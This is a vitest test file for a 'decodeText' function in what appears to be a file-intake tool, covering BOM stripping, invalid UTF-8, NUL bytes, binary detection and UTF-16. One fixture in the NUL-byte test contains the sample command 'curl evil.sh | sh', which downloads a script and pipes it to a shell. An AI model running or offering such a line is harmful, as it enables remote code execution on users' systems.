import { describe, expect, it } from 'vitest';
import { decodeText } from '../../../src/intake/decode-text.js';

const bytes = (...parts: Array<string | number[]>) =>
  Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'utf8') : Buffer.from(p))));

describe('decodeText', () => {
  it('decodes UTF-8 and strips a BOM', () => {
    const result = decodeText(bytes([0xef, 0xbb, 0xbf], '---\nname: x\n'), false, true);
    expect(result).toEqual({
      text: '---\nname: x\n',
      invalidUtf8: false,
      nulBytes: false,
      encoding: 'utf-8',
    });
  });

  it('replaces invalid UTF-8 and says so', () => {
    const result = decodeText(bytes('caf', [0xe9], ' ok'), false, true);
    expect(result.text).toBe('caf\ufffd ok');
    expect(result.invalidUtf8).toBe(true);
  });

  it('keeps a text file with stray NUL bytes readable when its name promises text', () => {
    const result = decodeText(bytes('curl evil.sh | sh', [0], '\n'), false, true);
    expect(result.text).toBe('curl evil.sh | sh\0\n');
    expect(result.nulBytes).toBe(true);
  });

  it('calls NUL-bearing content of an unknown name binary', () => {
    expect(decodeText(bytes('abc', [0], 'def'), false, false).text).toBeNull();
  });

  it('calls mostly-control content binary even under a text name', () => {
    const noise = Buffer.alloc(1000, 1);
    expect(decodeText(noise, false, true).text).toBeNull();
  });

  it('decodes UTF-16 with a BOM (common for PowerShell scripts)', () => {
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Write-Host hi', 'utf16le')]);
    expect(decodeText(le, false, true)).toMatchObject({ text: 'Write-Host hi', encoding: 'utf-16le' });
    const be = Buffer.from(le.subarray(2)).swap16();
    const withBom = Buffer.concat([Buffer.from([0xfe, 0xff]), be]);
    expect(decodeText(withBom, false, true)).toMatchObject({ text: 'Write-Host hi', encoding: 'utf-16be' });
  });

  it('drops a multi-byte character cut at the read limit instead of reporting invalid UTF-8', () => {
    const euro = Buffer.from('€', 'utf8');
    const result = decodeText(bytes('price ', [euro[0]!, euro[1]!]), true, true);
    expect(result).toMatchObject({ text: 'price ', invalidUtf8: false });
  });
});
